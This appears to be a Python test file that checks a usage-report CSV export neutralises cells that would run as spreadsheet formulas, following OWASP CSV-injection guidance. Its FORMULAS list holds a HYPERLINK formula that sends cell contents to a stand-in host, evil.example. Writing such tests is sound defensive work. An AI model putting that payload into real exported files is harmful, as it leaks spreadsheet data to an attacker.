"""The usage CSV never emits a cell that a spreadsheet would run as a formula (DESIGN §15,
issue 14 finding 4): per OWASP's CSV-injection guidance, a cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return is prefixed with a single quote and quoted."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from app.usage import reports
from tests.fixtures import factories

ADMIN = factories.ADMIN
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1)"]


class TestUsageExport:
    async def test_owners_that_look_like_formulas_are_exported_as_text(
        self, client: httpx.AsyncClient, sim: httpx.AsyncClient
    ) -> None:
        headers = await factories.team_with_key(client)
        for owner in FORMULAS:
            await factories.sandbox(client, headers, owner=owner)
        # Some uptime of positive length, so every owner has a row.
        await sim.post("/_simulator/clock/advance", json={"seconds": 120})

        exported = await client.get(
            "/v1/usage", params={"group_by": "owner", "format": "csv"}, headers=ADMIN
        )
        assert exported.status_code == 200, exported.text
        lines = exported.text.splitlines()[1:]
        assert len(lines) == len(FORMULAS)
        for line in lines:
            # The owner cell as a spreadsheet sees it: quoted, starting with the quote mark.
            assert line.startswith("\"'"), line
        owners = [row["owner"] for row in csv.DictReader(io.StringIO(exported.text))]
        assert sorted(owners) == sorted("'" + owner for owner in FORMULAS)

        # The JSON report is data, not a spreadsheet: it keeps the owners as they are.
        report = await client.get("/v1/usage", params={"group_by": "owner"}, headers=ADMIN)
        assert sorted(r["owner"] for r in report.json()["rows"]) == sorted(FORMULAS)


class TestCsvText:
    @pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
    def test_a_cell_that_starts_a_formula_is_neutralised(self, cell: str) -> None:
        text = reports._csv_text([[cell, 1]])
        (parsed,) = list(csv.reader(io.StringIO(text)))
        assert parsed == ["'" + cell, "1"]
        assert text.startswith("\"'")

    def test_other_text_and_numbers_are_unchanged(self) -> None:
        text = reports._csv_text([["alice", "a=b", "", None, 3, 2.5]])
        (parsed,) = list(csv.reader(io.StringIO(text)))
        assert parsed == ["alice", "a=b", "", "", "3", "2.5"]
